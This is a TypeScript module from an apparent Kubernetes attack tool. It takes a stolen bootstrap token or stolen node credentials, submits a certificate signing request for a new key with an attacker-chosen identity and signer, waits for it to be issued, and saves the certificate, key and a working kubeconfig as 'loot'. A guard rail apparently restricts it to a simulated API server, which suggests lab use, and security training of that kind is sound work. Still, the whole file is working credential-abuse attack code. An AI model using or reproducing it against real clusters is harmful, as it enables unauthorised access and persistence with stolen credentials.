/**
 * Requests a certificate for a new key with a stolen token (P1) or a stolen node certificate (P2), and returns the
 * outcome.
 */
import { join } from 'node:path';
import type { Clock } from '../../lib/clock.ts';
import { asKubejoinError, causeText, KubejoinError } from '../../lib/errors.ts';
import { makePrivateDirectory, writeWholeFile } from '../../lib/files.ts';
import type { ApiClient } from '../../lib/kube/client.ts';
import { parseGoDuration } from '../../lib/kube/duration.ts';
import { userKubeconfig, writeKubeconfig } from '../../lib/kube/kubeconfig.ts';
import type { CertificateSigningRequest } from '../../lib/kube/types.ts';
import { parseCertificates } from '../../lib/pki/certificate.ts';
import { createCsr } from '../../lib/pki/csr.ts';
import { generateKeyPair, type KeyPair, writePrivateKey } from '../../lib/pki/keys.ts';
import { openApi, resolveHost, type Shown, withApi } from './clients.ts';
import { requireNearTarget } from './guard-rails.ts';
import { refusedText } from './output.ts';
import { readNamed, readStolenIdentity, readStolenToken } from './stolen-files.ts';

export interface RequestFlags {
	readonly target: string;
	readonly clusterCa: string;
	readonly tokenFile?: string;
	readonly kubeconfig?: string;
	readonly signer: string;
	readonly commonName: string;
	readonly organization?: readonly string[];
	readonly dns?: readonly string[];
	readonly ip?: readonly string[];
	readonly usage?: readonly string[];
	readonly wait: string;
	readonly out?: string;
}

/** @returns lines; the first is the outcome @throws ATTACK_NOT_ALLOWED, ATTACK_ARGUMENTS_INVALID, FILE_UNUSABLE */
export async function requestCertificate(flags: RequestFlags, clock: Clock): Promise<readonly string[]> {
	const {
		target,
		clusterCa,
		signer,
		commonName,
		organization = [],
		dns = [],
		ip = [],
		usage = ['digital signature', 'client auth'],
		out,
	} = flags;
	const waitMs = durationOf(flags.wait);
	await requireNearTarget(target, 'apiserver-sim', resolveHost);
	const ca = await readNamed('--cluster-ca', clusterCa);
	const shown = await readShown(flags);
	const pair = await generateKeyPair('ECDSA-P256');
	const subject = { organizations: organization, commonName };
	const request = Buffer.from(createCsr({ subject, dnsNames: dns, ipAddresses: ip }, pair)).toString('base64');
	const spec = { request, signerName: signer, usages: [...usage] };
	let name = '';
	try {
		const decided = await withApi(openApi(target, ca, shown), async ({ certificateSigningRequests: csrs }) => {
			const created = await csrs.create({ metadata: { generateName: 'csr-' }, spec });
			name = created.metadata.name ?? '';
			return waitForDecision(csrs, created, waitMs);
		});
		const certificate = Buffer.from(decided.status?.certificate ?? '', 'base64').toString();
		const isKept = out !== undefined && certificate !== '';
		if (isKept) await keep(out, { certificate, pair, target, ca, user: commonName });
		return [
			outcomeText(decided),
			`request: ${name}`,
			...(isKept ? [`kept: ${join(out, 'client.conf')}`] : []),
			...lifeText(certificate, clock),
		];
	} catch (error) {
		const known = asKubejoinError(error);
		if (known.code === 'INTERNAL' || known.code === 'FILE_UNUSABLE') throw known;
		return [refusedText(known), ...(name === '' ? [] : [`request: ${name}`])];
	}
}

/** Requires exactly one stolen credential. */
async function readShown({ tokenFile, kubeconfig }: RequestFlags): Promise<Shown> {
	if ((tokenFile === undefined) === (kubeconfig === undefined)) {
		throw new KubejoinError('ATTACK_ARGUMENTS_INVALID', {
			problems: ['give one stolen credential: --token-file FILE (P1) or --kubeconfig FILE (P2)'],
		});
	}
	return tokenFile === undefined ? readStolenIdentity(kubeconfig ?? '') : { token: await readStolenToken(tokenFile) };
}

function durationOf(text: string): number {
	try {
		return Math.max(0, Math.round(parseGoDuration(text)));
	} catch (error) {
		throw new KubejoinError('ATTACK_ARGUMENTS_INVALID', { problems: [`--wait: ${causeText(error)}`] });
	}
}

/** The request after a decision, or after the timeout. */
async function waitForDecision(
	csrs: ApiClient['certificateSigningRequests'],
	created: CertificateSigningRequest,
	waitMs: number,
) {
	const { name = '' } = created.metadata;
	let latest = created;
	for await (const { object } of csrs.watch({ fieldSelector: `metadata.name=${name}` }, AbortSignal.timeout(waitMs))) {
		latest = object;
		if (isDecided(object)) break;
	}
	return latest;
}

const conditionOf = ({ status }: CertificateSigningRequest, wanted: string) =>
	status?.conditions?.find(({ type }) => type === wanted);
const isDecided = (csr: CertificateSigningRequest): boolean =>
	conditionOf(csr, 'Denied') !== undefined ||
	conditionOf(csr, 'Failed') !== undefined ||
	(csr.status?.certificate ?? '') !== '';

/** `outcome: issued serial …`, `pending`, `denied REASON: …` or `failed REASON: …`. */
export function outcomeText(csr: CertificateSigningRequest): string {
	const denied = conditionOf(csr, 'Denied');
	if (denied !== undefined) return `outcome: denied ${denied.reason ?? ''}: ${denied.message ?? ''}`;
	const failed = conditionOf(csr, 'Failed');
	if (failed !== undefined) return `outcome: failed ${failed.reason ?? ''}: ${failed.message ?? ''}`;
	const certificate = Buffer.from(csr.status?.certificate ?? '', 'base64').toString();
	if (certificate === '') return 'outcome: pending';
	return `outcome: issued serial ${parseCertificates(certificate)[0].serialNumber.toLowerCase()}`;
}

function lifeText(certificate: string, clock: Clock): string[] {
	if (certificate === '') return [];
	const notAfter = Date.parse(parseCertificates(certificate)[0].validTo);
	return [`good for: ${Math.max(0, Math.round((notAfter - clock()) / 1000))} s`];
}

interface Loot {
	readonly certificate: string;
	readonly pair: KeyPair;
	readonly target: string;
	readonly ca: string;
	readonly user: string;
}

async function keep(directory: string, { certificate, pair, target, ca, user }: Loot): Promise<void> {
	const key = writePrivateKey(pair.privateKey);
	await makePrivateDirectory(directory);
	await writeWholeFile(join(directory, 'client.crt'), certificate, 0o600);
	await writeWholeFile(join(directory, 'client.key'), key, 0o600);
	await writeWholeFile(
		join(directory, 'client.conf'),
		writeKubeconfig(userKubeconfig(`https://${target}`, ca, user, { certificate, key })),
		0o600,
	);
}
